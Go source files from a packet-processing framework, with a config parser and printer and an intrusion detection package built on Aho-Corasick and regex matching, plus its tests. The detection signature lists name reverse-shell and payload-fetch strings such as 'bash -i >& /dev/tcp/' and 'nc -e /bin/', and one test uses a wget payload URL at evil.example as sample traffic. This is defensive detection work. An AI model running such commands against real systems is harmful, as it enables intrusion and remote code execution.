				Msg: fmt.Sprintf("compound expansion name clash on %q", clone.Name)}
		}
		// Nested compound instantiation inside a template body.
		if nested, ok := p.templates[d.Class]; ok {
			if err := p.expandCompound(clone.Name, nested, line); err != nil {
				return err
			}
			continue
		}
		p.cfg.Decls = append(p.cfg.Decls, clone)
		p.cfg.byName[clone.Name] = clone
	}
	resolve := func(n string, out bool) (string, int, int, bool) {
		// Translate an intra-template endpoint, possibly itself a nested
		// compound instance.
		full := prefix + n
		if ref, ok := p.compounds[full]; ok {
			if out {
				return ref.exitFrom, ref.exitPort, 0, true
			}
			return ref.entryTo, 0, ref.entryPort, true
		}
		return full, 0, 0, false
	}
	for _, e := range t.edges {
		from, fromPortExtra, _, fromCompound := resolve(e.From, true)
		to, _, toPortExtra, toCompound := resolve(e.To, false)
		fromPort := e.FromPort
		if fromCompound {
			fromPort = fromPortExtra
		}
		toPort := e.ToPort
		if toCompound {
			toPort = toPortExtra
		}
		p.cfg.Edges = append(p.cfg.Edges, Edge{
			From: from, FromPort: fromPort, To: to, ToPort: toPort, Line: line,
		})
	}
	entryTo, _, entryPort, entryCompound := resolve(t.entryTo, false)
	exitFrom, exitPort, _, exitCompound := resolve(t.exitFrom, true)
	ref := compoundRef{entryTo: entryTo, exitFrom: exitFrom}
	if entryCompound {
		ref.entryPort = entryPort
	} else {
		ref.entryPort = t.entryPort
	}
	if exitCompound {
		ref.exitPort = exitPort
	} else {
		ref.exitPort = t.exitPort
	}
	p.compounds[name] = ref
	return nil
}
