package conflang

import (
	"fmt"
	"strings"
)

// Print renders a parsed configuration back into canonical NBA syntax:
// every instance (including expanded compound internals) as an explicit
// declaration, followed by one connection statement per edge. Parsing the
// output reproduces the same declarations and edges, which the round-trip
// property test relies on.
func (c *Config) Print() string {
	var sb strings.Builder
	for _, d := range c.Decls {
		fmt.Fprintf(&sb, "%s :: %s(", printableName(d.Name), d.Class)
		for i, p := range d.Params {
			if i > 0 {
				sb.WriteString(", ")
			}
			fmt.Fprintf(&sb, "%s", quoteParam(p))
		}
		sb.WriteString(");\n")
	}
	for _, e := range c.Edges {
		from := printableName(e.From)
		to := printableName(e.To)
		switch {
		case e.FromPort == 0 && e.ToPort == 0:
			fmt.Fprintf(&sb, "%s -> %s;\n", from, to)
		case e.ToPort == 0:
			fmt.Fprintf(&sb, "%s[%d] -> %s;\n", from, e.FromPort, to)
		case e.FromPort == 0:
			fmt.Fprintf(&sb, "%s -> [%d]%s;\n", from, e.ToPort, to)
		default:
			fmt.Fprintf(&sb, "%s[%d] -> [%d]%s;\n", from, e.FromPort, e.ToPort, to)
		}
	}
	return sb.String()
}

// printableName makes generated names ('/' from compound expansion) legal
// identifiers again.
func printableName(n string) string {
	return strings.ReplaceAll(n, "/", "_")
}

func quoteParam(p string) string {
	var sb strings.Builder
	sb.WriteByte('"')
	for i := 0; i < len(p); i++ {
		switch c := p[i]; c {
		case '"':
			sb.WriteString(`\"`)
		case '\\':
			sb.WriteString(`\\`)
		case '\n':
			sb.WriteString(`\n`)
		case '\t':
			sb.WriteString(`\t`)
		default:
			sb.WriteByte(c)
		}
	}
	sb.WriteByte('"')
	return sb.String()
}
