package ids

// DefaultSignatures is the built-in Aho-Corasick string rule set, shaped
// after classic exploit/recon signatures (the paper uses Snort-style rules;
// the actual rule content only affects match rates, not the data path).
var DefaultSignatures = []string{
	"/bin/sh",
	"/etc/passwd",
	"cmd.exe",
	"powershell -enc",
	"SELECT * FROM",
	"UNION SELECT",
	"DROP TABLE",
	"<script>",
	"javascript:alert",
	"../../../",
	"wget http://",
	"curl -s http://",
	"nc -e /bin/",
	"bash -i >& /dev/tcp/",
	"eval(base64_decode",
	"xp_cmdshell",
	"INSERT INTO users",
	"OR 1=1--",
	"%00%00%00%00",
	"\\x90\\x90\\x90\\x90",
	"AAAAAAAAAAAAAAAA",
	"GET /admin/config",
	"POST /cgi-bin/",
	"User-Agent: sqlmap",
	"User-Agent: nikto",
	"X-Forwarded-For: 127.0.0.1",
	"Authorization: Basic YWRtaW46",
	"passwd=admin",
	"uid=0(root)",
	"TRACE / HTTP",
	"OPTIONS * HTTP",
	"%u9090%u6858",
	"\\\\.\\pipe\\",
	"HEAD /backdoor",
	"botnet.join",
	"irc.quakenet.org",
	"ddos.start",
	"exfil.begin",
	"keylog.dump",
	"ransom.note",
}

// DefaultRegexRules is the built-in regular-expression rule set, exercising
// classes, alternation, repetition and escapes.
var DefaultRegexRules = []string{
	`GET /[a-z0-9_/]*\.php\?id=[0-9]+`,
	`(admin|root|guest):[a-zA-Z0-9]+@`,
	`\\x[0-9a-f][0-9a-f](\\x[0-9a-f][0-9a-f])+`,
	`[0-9]+\.[0-9]+\.[0-9]+\.[0-9]+:[0-9]+`,
	`(wget|curl) +https?://[a-z0-9.]+/[a-z0-9]+\.(sh|bin|exe)`,
	`select +[a-z*, ]+ +from +[a-z_]+`,
	`eval\([a-z_]*\(`,
	`(%3C|<)(%73|s)(%63|c)ript`,
	`[a-f0-9]epeat[a-f0-9]+`,
	`beacon(ing)? +id=[0-9a-f]+`,
	`session=[A-Za-z0-9+/]+==?`,
	`\.onion(/|\s)`,
}
