// Package ids implements the intrusion detection application (paper §4.1):
// Aho-Corasick multi-pattern string matching and PCRE-style regular
// expression matching, both compiled to DFA form "using standard
// approaches" (the paper cites Aho-Corasick 1975 and Thompson 1968), plus
// the offloadable IDSMatch elements.
package ids

import (
	"fmt"
	"sort"
)

// AC is an Aho-Corasick automaton in full-DFA form: every state has a
// precomputed transition for every input byte (failure links are folded in
// at build time), so scanning is one table access per byte.
type AC struct {
	next     [][256]int32
	out      [][]int32 // pattern IDs ending at each state
	patterns []string
}

// BuildAC compiles the pattern set. Patterns must be non-empty.
func BuildAC(patterns []string) (*AC, error) {
	if len(patterns) == 0 {
		return nil, fmt.Errorf("ids: empty pattern set")
	}
	a := &AC{patterns: patterns}
	// State 0 is the root.
	a.next = append(a.next, [256]int32{})
	a.out = append(a.out, nil)
	goto_ := []map[byte]int32{{}}

	for id, p := range patterns {
		if len(p) == 0 {
			return nil, fmt.Errorf("ids: pattern %d is empty", id)
		}
		s := int32(0)
		for i := 0; i < len(p); i++ {
			c := p[i]
			nxt, ok := goto_[s][c]
			if !ok {
				nxt = int32(len(goto_))
				goto_ = append(goto_, map[byte]int32{})
				a.next = append(a.next, [256]int32{})
				a.out = append(a.out, nil)
				goto_[s][c] = nxt
			}
			s = nxt
		}
		a.out[s] = append(a.out[s], int32(id))
	}

	// BFS to compute failure links and fold them into full transitions.
	fail := make([]int32, len(goto_))
	queue := make([]int32, 0, len(goto_))
	for c := 0; c < 256; c++ {
		if nxt, ok := goto_[0][byte(c)]; ok {
			a.next[0][c] = nxt
			queue = append(queue, nxt)
		} else {
			a.next[0][c] = 0
		}
	}
	for len(queue) > 0 {
		s := queue[0]
		queue = queue[1:]
		a.out[s] = append(a.out[s], a.out[fail[s]]...)
		for c := 0; c < 256; c++ {
			if nxt, ok := goto_[s][byte(c)]; ok {
				a.next[s][c] = nxt
				fail[nxt] = a.next[fail[s]][c]
				queue = append(queue, nxt)
			} else {
				a.next[s][c] = a.next[fail[s]][c]
			}
		}
	}
	for s := range a.out {
		sort.Slice(a.out[s], func(i, j int) bool { return a.out[s][i] < a.out[s][j] })
	}
	return a, nil
}

// States returns the automaton size.
func (a *AC) States() int { return len(a.next) }

// Patterns returns the compiled pattern set.
func (a *AC) Patterns() []string { return a.patterns }

// Match reports the lowest pattern ID found in data, or -1.
func (a *AC) Match(data []byte) int {
	best := int32(-1)
	s := int32(0)
	for _, c := range data {
		s = a.next[s][c]
		for _, id := range a.out[s] {
			if best == -1 || id < best {
				best = id
			}
			break // out lists are sorted; first is smallest
		}
	}
	return int(best)
}

// Scan invokes visit for every match occurrence (pattern ID, end offset).
// Returning false from visit stops the scan.
func (a *AC) Scan(data []byte, visit func(id, end int) bool) {
	s := int32(0)
	for pos, c := range data {
		s = a.next[s][c]
		for _, id := range a.out[s] {
			if !visit(int(id), pos+1) {
				return
			}
		}
	}
}

// NaiveMatch is the reference multi-substring search for property tests.
func NaiveMatch(patterns []string, data []byte) int {
	best := -1
	str := string(data)
	for id, p := range patterns {
		if containsStr(str, p) && (best == -1 || id < best) {
			best = id
		}
	}
	return best
}

func containsStr(s, sub string) bool {
	if len(sub) == 0 {
		return true
	}
	for i := 0; i+len(sub) <= len(s); i++ {
		if s[i:i+len(sub)] == sub {
			return true
		}
	}
	return false
}
