package ids

import (
	"regexp"
	"strings"
	"testing"
	"testing/quick"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func TestACBasicMatching(t *testing.T) {
	ac, err := BuildAC([]string{"he", "she", "his", "hers"})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"ushers", 0}, // "he" (id 0) inside "ushers"
		{"this", 2},
		{"xyz", -1},
		{"she", 0}, // both "she" and "he" end; lowest id wins
		{"hi his", 2},
	}
	for _, c := range cases {
		if got := ac.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestACScanOccurrences(t *testing.T) {
	ac, _ := BuildAC([]string{"ab", "b"})
	var hits [][2]int
	ac.Scan([]byte("abab"), func(id, end int) bool {
		hits = append(hits, [2]int{id, end})
		return true
	})
	// Occurrences: ab@2, b@2, ab@4, b@4.
	if len(hits) != 4 {
		t.Fatalf("hits = %v, want 4 occurrences", hits)
	}
	// Early termination.
	count := 0
	ac.Scan([]byte("abab"), func(id, end int) bool {
		count++
		return false
	})
	if count != 1 {
		t.Errorf("Scan continued after visit returned false")
	}
}

func TestACOverlappingSuffixPatterns(t *testing.T) {
	ac, _ := BuildAC([]string{"aaa", "aa"})
	found := map[int]bool{}
	ac.Scan([]byte("aaaa"), func(id, end int) bool {
		found[id] = true
		return true
	})
	if !found[0] || !found[1] {
		t.Errorf("suffix pattern missed: found=%v", found)
	}
}

func TestACMatchesNaiveProperty(t *testing.T) {
	patterns := []string{"abc", "bca", "cab", "aa", "bb", "abcabc", "ca"}
	ac, err := BuildAC(patterns)
	if err != nil {
		t.Fatal(err)
	}
	f := func(data []byte) bool {
		// Restrict the alphabet so matches actually occur.
		for i := range data {
			data[i] = 'a' + data[i]%3
		}
		return ac.Match(data) == NaiveMatch(patterns, data)
	}
	if err := quick.Check(f, &quick.Config{MaxCount: 2000}); err != nil {
		t.Error(err)
	}
}

func TestACBuildErrors(t *testing.T) {
	if _, err := BuildAC(nil); err == nil {
		t.Error("empty pattern set accepted")
	}
	if _, err := BuildAC([]string{"ok", ""}); err == nil {
		t.Error("empty pattern accepted")
	}
}

func TestDefaultSignaturesCompile(t *testing.T) {
	ac, err := BuildAC(DefaultSignatures)
	if err != nil {
		t.Fatal(err)
	}
	if ac.States() < len(DefaultSignatures) {
		t.Errorf("suspiciously small automaton: %d states", ac.States())
	}
	if got := ac.Match([]byte("GET /x HTTP/1.1\r\nagent: sqlmap /bin/sh here")); got == -1 {
		t.Error("known signature not found")
	}
}

func TestRegexParserErrors(t *testing.T) {
	bad := []string{"(", ")", "a(b", "[", "[]", "[z-a]", "*a", "+", "a\\", `a\q`, "[a\\"}
	for _, p := range bad {
		if _, err := ParseRegex(p); err == nil {
			t.Errorf("ParseRegex(%q) succeeded, want error", p)
		}
	}
}

func TestDFAAgainstStdlibProperty(t *testing.T) {
	// Our DFA scans for a match anywhere, i.e. stdlib semantics of an
	// unanchored MatchString. Compare across a pattern corpus and random
	// inputs over a small alphabet.
	patterns := []string{
		`abc`,
		`a+b`,
		`ab*c`,
		`a?bc`,
		`(ab|cd)+`,
		`[a-c]+d`,
		`[^a]bc`,
		`a.c`,
		`(a|b)(c|d)`,
		`ab(cd)*ef`,
	}
	for _, pat := range patterns {
		d, err := CompileRules([]string{pat})
		if err != nil {
			t.Fatalf("CompileRules(%q): %v", pat, err)
		}
		std := regexp.MustCompile(pat)
		f := func(raw []byte) bool {
			data := make([]byte, len(raw))
			for i := range raw {
				data[i] = "abcdef"[raw[i]%6]
			}
			got := d.Match(data) >= 0
			want := std.Match(data)
			return got == want
		}
		if err := quick.Check(f, &quick.Config{MaxCount: 500}); err != nil {
			t.Errorf("pattern %q: %v", pat, err)
		}
	}
}

func TestDFAMultiRuleLowestID(t *testing.T) {
	d, err := CompileRules([]string{"zzz", "ab", "b"})
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("xxabxx")); got != 1 {
		t.Errorf("Match = %d, want 1 (lowest matching rule)", got)
	}
	if got := d.Match([]byte("xbx")); got != 2 {
		t.Errorf("Match = %d, want 2", got)
	}
	if got := d.Match([]byte("xxx")); got != -1 {
		t.Errorf("Match = %d, want -1", got)
	}
}

func TestDFAClassesAndEscapes(t *testing.T) {
	d, err := CompileRules([]string{`\d+\.\d+`, `[a-f]+[0-9]`, `a\tb`})
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		in   string
		want int
	}{
		{"version 10.25 ok", 0},
		{"deadbeef7", 1},
		{"a\tb", 2},
		{"nothing", -1},
	}
	for _, c := range cases {
		if got := d.Match([]byte(c.in)); got != c.want {
			t.Errorf("Match(%q) = %d, want %d", c.in, got, c.want)
		}
	}
}

func TestDefaultRegexRulesCompile(t *testing.T) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		t.Fatal(err)
	}
	if got := d.Match([]byte("GET /index.php?id=42 HTTP/1.1")); got != 0 {
		t.Errorf("rule 0 not matched: got %d", got)
	}
	if got := d.Match([]byte("wget https://evil.example/payload.sh")); got != 4 {
		t.Errorf("rule 4 not matched: got %d", got)
	}
}

func TestCompileRulesErrors(t *testing.T) {
	if _, err := CompileRules(nil); err == nil {
		t.Error("empty rule set accepted")
	}
	if _, err := CompileRules([]string{"("}); err == nil {
		t.Error("bad rule accepted")
	}
}

func mkPayloadPkt(t *testing.T, payload string) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	frameLen := packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen + len(payload)
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 3, 4, frameLen)
	p.SetLength(n)
	copy(p.Buf()[packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen:], payload)
	return p
}

func elemCtx() (*element.ConfigContext, *element.ProcContext) {
	nl := element.NewNodeLocal()
	return &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)},
		&element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
}

func TestMatchACElementAlertAndDrop(t *testing.T) {
	cc, pc := elemCtx()
	e := &MatchAC{}
	if err := e.Configure(cc, nil); err != nil {
		t.Fatal(err)
	}
	clean := mkPayloadPkt(t, "totally benign content here")
	if r := e.Process(pc, clean); r != 0 || clean.Anno[packet.AnnoMatchResult] != 0 {
		t.Error("clean packet flagged")
	}
	evil := mkPayloadPkt(t, "try /bin/sh now")
	if r := e.Process(pc, evil); r != 0 {
		t.Error("alert mode dropped packet")
	}
	if evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("match annotation not set")
	}
	if e.Matches != 1 {
		t.Errorf("Matches = %d, want 1", e.Matches)
	}

	drop := &MatchAC{}
	if err := drop.Configure(cc, []string{"drop"}); err != nil {
		t.Fatal(err)
	}
	evil2 := mkPayloadPkt(t, "try /bin/sh now")
	if r := drop.Process(pc, evil2); r != element.Drop {
		t.Error("drop mode did not drop")
	}
}

func TestMatchREElement(t *testing.T) {
	cc, pc := elemCtx()
	e := &MatchRE{}
	if err := e.Configure(cc, []string{"alert"}); err != nil {
		t.Fatal(err)
	}
	evil := mkPayloadPkt(t, "GET /a.php?id=123")
	if e.Process(pc, evil); evil.Anno[packet.AnnoMatchResult] == 0 {
		t.Error("regex match annotation not set")
	}
	// Regex IDs sit above the signature ID space.
	if evil.Anno[packet.AnnoMatchResult] <= uint64(len(DefaultSignatures)) {
		t.Error("regex annotation overlaps AC ID space")
	}
}

func TestElementConfigErrors(t *testing.T) {
	cc, _ := elemCtx()
	if err := (&MatchAC{}).Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
	if err := (&MatchRE{}).Configure(cc, []string{"explode"}); err == nil {
		t.Error("bad mode accepted")
	}
}

func TestElementsShareCompiledAutomata(t *testing.T) {
	cc, _ := elemCtx()
	a, b := &MatchAC{}, &MatchAC{}
	a.Configure(cc, nil)
	b.Configure(cc, nil)
	if a.ac != b.ac {
		t.Error("AC automaton rebuilt per replica")
	}
}

func TestCPUAndGPUPathsAgree(t *testing.T) {
	cc, pc := elemCtx()
	e := &MatchAC{}
	if err := e.Configure(cc, nil); err != nil {
		t.Fatal(err)
	}
	payloads := []string{
		"innocuous", "/bin/sh", "xp_cmdshell", "fine", "DROP TABLE students",
	}
	var annoCPU []uint64
	for _, pl := range payloads {
		p := mkPayloadPkt(t, pl)
		e.Process(pc, p)
		annoCPU = append(annoCPU, p.Anno[packet.AnnoMatchResult])
	}
	// GPU path over a batch.
	var bt batch.Batch
	var pkts []*packet.Packet
	for _, pl := range payloads {
		p := mkPayloadPkt(t, pl)
		pkts = append(pkts, p)
		bt.Add(p)
	}
	e.ProcessOffloaded(pc, &bt)
	for i := range payloads {
		if pkts[i].Anno[packet.AnnoMatchResult] != annoCPU[i] {
			t.Errorf("payload %q: CPU anno %d, GPU anno %d", payloads[i], annoCPU[i], pkts[i].Anno[packet.AnnoMatchResult])
		}
	}
}

func TestStringsHelperCoverage(t *testing.T) {
	if !containsStr("hello", "") || !containsStr("hello", "ell") || containsStr("hi", "hello") {
		t.Error("containsStr wrong")
	}
	if !strings.Contains(DefaultSignatures[0], "/") {
		t.Error("unexpected signature content")
	}
}

func BenchmarkACScan1500(b *testing.B) {
	ac, _ := BuildAC(DefaultSignatures)
	data := make([]byte, 1500)
	r := rng.New(1)
	for i := range data {
		data[i] = 'a' + byte(r.Uint64()%26)
	}
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		ac.Match(data)
	}
}

func BenchmarkDFAScan1500(b *testing.B) {
	d, err := CompileRules(DefaultRegexRules)
	if err != nil {
		b.Fatal(err)
	}
	data := make([]byte, 1500)
	r := rng.New(1)
	for i := range data {
		data[i] = 'a' + byte(r.Uint64()%26)
	}
	b.SetBytes(1500)
	b.ReportAllocs()
	b.ResetTimer()
	for i := 0; i < b.N; i++ {
		d.Match(data)
	}
}
