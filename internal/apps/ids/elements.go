package ids

import (
	"fmt"
	"sync"

	"nba/internal/batch"
	"nba/internal/element"
	"nba/internal/packet"
)

func init() {
	element.Register("IDSMatchAC", func() element.Element { return &MatchAC{} })
	element.Register("IDSMatchRE", func() element.Element { return &MatchRE{} })
	element.Register("IDSRuleMatch", func() element.Element { return &IDSRuleMatch{} })
}

// matchMode selects what happens to matched packets.
type matchMode int

const (
	modeAlert matchMode = iota // annotate and forward
	modeDrop                   // drop matched packets
)

func parseMode(args []string) (matchMode, error) {
	switch {
	case len(args) == 0 || args[0] == "alert":
		return modeAlert, nil
	case args[0] == "drop":
		return modeDrop, nil
	default:
		return 0, fmt.Errorf("unknown mode %q (want alert or drop)", args[0])
	}
}

// payloadOf returns the scan region: everything after the Ethernet header.
func payloadOf(pkt *packet.Packet) []byte {
	f := pkt.Data()
	if len(f) <= packet.EthHdrLen {
		return nil
	}
	return f[packet.EthHdrLen:]
}

// MatchAC is the offloadable Aho-Corasick signature matching element.
// Parameter: "alert" (default) or "drop".
type MatchAC struct {
	ac   *AC
	mode matchMode
	// Matches counts matched packets.
	Matches uint64
}

// Class implements element.Element.
func (*MatchAC) Class() string { return "IDSMatchAC" }

// OutPorts implements element.Element.
func (*MatchAC) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *MatchAC) Configure(ctx *element.ConfigContext, args []string) error {
	mode, err := parseMode(args)
	if err != nil {
		return fmt.Errorf("IDSMatchAC: %w", err)
	}
	e.mode = mode
	var berr error
	e.ac = element.GetOrCreate(ctx.NodeLocal, "ids.ac.default", func() *AC {
		cacheMu.Lock()
		defer cacheMu.Unlock()
		if cachedAC != nil {
			return cachedAC
		}
		a, err := BuildAC(DefaultSignatures)
		if err != nil {
			berr = err
			return a
		}
		cachedAC = a
		return a
	})
	return berr
}

// cachedAC/cachedDFA share the immutable default automata across Systems.
// The mutex makes the lazy build safe for concurrent System construction
// (internal/par sweeps); the automata are pure functions of the built-in
// rule sets.
var (
	cacheMu   sync.Mutex
	cachedAC  *AC
	cachedDFA *DFA
)

func (e *MatchAC) handle(pkt *packet.Packet, id int) int {
	if id < 0 {
		return 0
	}
	e.Matches++
	pkt.Anno[packet.AnnoMatchResult] = uint64(id) + 1
	if e.mode == modeDrop {
		return element.Drop
	}
	return 0
}

// Process implements the CPU-side function.
func (e *MatchAC) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	return e.handle(pkt, e.ac.Match(payloadOf(pkt)))
}

// Datablocks implements element.Offloadable: payload in, 4-byte verdict out.
func (e *MatchAC) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ids.payload", Kind: element.WholePacket, Offset: packet.EthHdrLen, H2D: true},
		{Name: "ids.verdict", Kind: element.UserData, UserBytes: 4, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *MatchAC) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if e.handle(pkt, e.ac.Match(payloadOf(pkt))) == element.Drop {
			b.SetResult(i, batch.ResultDrop)
		}
	})
}

// MatchRE is the offloadable regular-expression matching element.
// Parameter: "alert" (default) or "drop".
type MatchRE struct {
	dfa  *DFA
	mode matchMode
	// Matches counts matched packets.
	Matches uint64
}

// Class implements element.Element.
func (*MatchRE) Class() string { return "IDSMatchRE" }

// OutPorts implements element.Element.
func (*MatchRE) OutPorts() int { return 1 }

// Configure implements element.Element.
func (e *MatchRE) Configure(ctx *element.ConfigContext, args []string) error {
	mode, err := parseMode(args)
	if err != nil {
		return fmt.Errorf("IDSMatchRE: %w", err)
	}
	e.mode = mode
	var berr error
	e.dfa = element.GetOrCreate(ctx.NodeLocal, "ids.re.default", func() *DFA {
		cacheMu.Lock()
		defer cacheMu.Unlock()
		if cachedDFA != nil {
			return cachedDFA
		}
		d, err := CompileRules(DefaultRegexRules)
		if err != nil {
			berr = err
			return d
		}
		cachedDFA = d
		return d
	})
	return berr
}

func (e *MatchRE) handle(pkt *packet.Packet, id int) int {
	if id < 0 {
		return 0
	}
	e.Matches++
	// Regex rule IDs occupy the annotation above the AC signature space.
	pkt.Anno[packet.AnnoMatchResult] = uint64(id) + 1 + uint64(len(DefaultSignatures))
	if e.mode == modeDrop {
		return element.Drop
	}
	return 0
}

// Process implements the CPU-side function.
func (e *MatchRE) Process(ctx *element.ProcContext, pkt *packet.Packet) int {
	return e.handle(pkt, e.dfa.Match(payloadOf(pkt)))
}

// Datablocks implements element.Offloadable (shares the payload block with
// MatchAC so a chained offload uploads the payload once).
func (e *MatchRE) Datablocks() []element.Datablock {
	return []element.Datablock{
		{Name: "ids.payload", Kind: element.WholePacket, Offset: packet.EthHdrLen, H2D: true},
		{Name: "ids.verdict", Kind: element.UserData, UserBytes: 4, D2H: true},
	}
}

// ProcessOffloaded implements the device-side function.
func (e *MatchRE) ProcessOffloaded(ctx *element.ProcContext, b *batch.Batch) {
	b.ForEachLive(func(i int, pkt *packet.Packet) {
		if e.handle(pkt, e.dfa.Match(payloadOf(pkt))) == element.Drop {
			b.SetResult(i, batch.ResultDrop)
		}
	})
}
