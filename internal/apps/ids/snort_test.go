package ids

import (
	"strings"
	"testing"

	"nba/internal/element"
	"nba/internal/packet"
	"nba/internal/rng"
)

func TestParseRulesBasics(t *testing.T) {
	rules, err := ParseRules(`
		# comment
		alert udp any any -> any 53 (msg:"dns"; content:"evil"; sid:1;)

		drop ip any any -> any any (content:"/bin/sh"; pcre:"/sh -[ci]/"; sid:2;)
	`)
	if err != nil {
		t.Fatal(err)
	}
	if len(rules) != 2 {
		t.Fatalf("parsed %d rules, want 2", len(rules))
	}
	r0 := rules[0]
	if r0.Action != ActionAlert || r0.Proto != "udp" || r0.DstPort != 53 || r0.SrcPort != -1 {
		t.Errorf("rule 0 header wrong: %+v", r0)
	}
	if r0.Msg != "dns" || len(r0.Contents) != 1 || r0.Contents[0] != "evil" || r0.SID != 1 {
		t.Errorf("rule 0 options wrong: %+v", r0)
	}
	r1 := rules[1]
	if r1.Action != ActionDrop || r1.PCRE != "sh -[ci]" {
		t.Errorf("rule 1 wrong: %+v", r1)
	}
}

func TestParseRulesQuotedSemicolons(t *testing.T) {
	rules, err := ParseRules(`alert ip any any -> any any (msg:"semi;colon"; content:"a;b"; sid:3;)`)
	if err != nil {
		t.Fatal(err)
	}
	if rules[0].Msg != "semi;colon" || rules[0].Contents[0] != "a;b" {
		t.Errorf("quoted semicolons mishandled: %+v", rules[0])
	}
}

func TestParseRulesErrors(t *testing.T) {
	bad := []string{
		`alert udp any any -> any 53`,                              // no options
		`explode ip any any -> any any (content:"x"; sid:1;)`,      // bad action
		`alert icmp any any -> any any (content:"x"; sid:1;)`,      // bad proto
		`alert ip 10.0.0.1 any -> any any (content:"x"; sid:1;)`,   // non-any addr
		`alert ip any any <- any any (content:"x"; sid:1;)`,        // bad arrow
		`alert ip any 99999 -> any any (content:"x"; sid:1;)`,      // bad port
		`alert ip any any -> any any (msg:"only message"; sid:1;)`, // no content/pcre
		`alert ip any any -> any any (content:""; sid:1;)`,         // empty content
		`alert ip any any -> any any (content:"x"; sid:-2;)`,       // bad sid
		`alert ip any any -> any any (wat:"x"; sid:1;)`,            // unknown option
		`alert ip any any -> any any (pcre:"/(/"; sid:1;)`,         // pcre won't compile (caught at compile)
		``, // no rules at all
	}
	for _, src := range bad[:10] {
		if _, err := ParseRules(src); err == nil {
			t.Errorf("ParseRules(%q) succeeded", src)
		}
	}
	if _, err := ParseRules("  \n# just comments\n"); err == nil {
		t.Error("empty rule set accepted")
	}
	// The unbalanced pcre parses but must fail to compile.
	rules, err := ParseRules(bad[10])
	if err != nil {
		t.Fatalf("pcre rule failed to parse: %v", err)
	}
	if _, err := CompileRuleSet(rules); err == nil {
		t.Error("uncompilable pcre accepted by CompileRuleSet")
	}
}

func mkRulePkt(t *testing.T, dport uint16, payload string) *packet.Packet {
	t.Helper()
	p := &packet.Packet{}
	frameLen := packet.EthHdrLen + packet.IPv4HdrLen + packet.UDPHdrLen + len(payload)
	n := packet.BuildUDP4(p.Buf(), [6]byte{2}, [6]byte{4}, 1, 2, 1234, dport, frameLen)
	p.SetLength(n)
	copy(p.Buf()[packet.EthHdrLen+packet.IPv4HdrLen+packet.UDPHdrLen:], payload)
	return p
}

func TestRuleSetMatchSemantics(t *testing.T) {
	rules, err := ParseRules(`
		alert udp any any -> any 53 (msg:"dns only"; content:"evil"; sid:10;)
		alert udp any any -> any any (msg:"both contents"; content:"aaa"; content:"bbb"; sid:11;)
		drop ip any any -> any any (msg:"pcre"; pcre:"/x[0-9]+y/"; sid:12;)
	`)
	if err != nil {
		t.Fatal(err)
	}
	rs, err := CompileRuleSet(rules)
	if err != nil {
		t.Fatal(err)
	}
	cases := []struct {
		dport   uint16
		payload string
		want    int
	}{
		{53, "so evil here", 0},
		{80, "so evil here", -1}, // port mismatch
		{80, "aaa then bbb", 1},  // both contents required and present
		{80, "aaa only", -1},     // missing second content
		{80, "zz x123y zz", 2},   // pcre
		{80, "nothing", -1},
		{53, "evil aaa bbb", 0}, // lowest rule wins
	}
	for _, c := range cases {
		got := rs.Match(mkRulePkt(t, c.dport, c.payload))
		if got != c.want {
			t.Errorf("Match(dport=%d, %q) = %d, want %d", c.dport, c.payload, got, c.want)
		}
	}
}

func TestIDSRuleMatchElement(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)}
	pc := &element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
	e := &IDSRuleMatch{}
	if err := e.Configure(cc, nil); err != nil {
		t.Fatal(err)
	}
	clean := mkRulePkt(t, 80, "completely ordinary text")
	if r := e.Process(pc, clean); r != 0 || clean.Anno[packet.AnnoMatchResult] != 0 {
		t.Error("clean packet flagged")
	}
	// Built-in sid 2003 is a drop rule on "/bin/sh".
	evil := mkRulePkt(t, 80, "run /bin/sh now")
	if r := e.Process(pc, evil); r != element.Drop {
		t.Error("drop rule did not drop")
	}
	if evil.Anno[packet.AnnoMatchResult] != 2003 {
		t.Errorf("annotation = %d, want sid 2003", evil.Anno[packet.AnnoMatchResult])
	}
	// Built-in sid 2004 is an alert rule needing both contents on udp.
	alert := mkRulePkt(t, 80, "UNION SELECT pass FROM users")
	if r := e.Process(pc, alert); r != 0 {
		t.Error("alert rule dropped")
	}
	if alert.Anno[packet.AnnoMatchResult] != 2004 {
		t.Errorf("annotation = %d, want sid 2004", alert.Anno[packet.AnnoMatchResult])
	}
	if e.Drops != 1 || e.Alerts != 1 {
		t.Errorf("Drops=%d Alerts=%d, want 1,1", e.Drops, e.Alerts)
	}
}

func TestIDSRuleMatchCustomRules(t *testing.T) {
	nl := element.NewNodeLocal()
	cc := &element.ConfigContext{NodeLocal: nl, NumPorts: 4, Rand: rng.New(1)}
	pc := &element.ProcContext{NodeLocal: nl, Rand: rng.New(2), CostScale: 1}
	e := &IDSRuleMatch{}
	custom := `drop ip any any -> any any (msg:"custom"; content:"FORBIDDEN"; sid:7777;)`
	if err := e.Configure(cc, []string{"rules=" + custom}); err != nil {
		t.Fatal(err)
	}
	p := mkRulePkt(t, 80, "this is FORBIDDEN content")
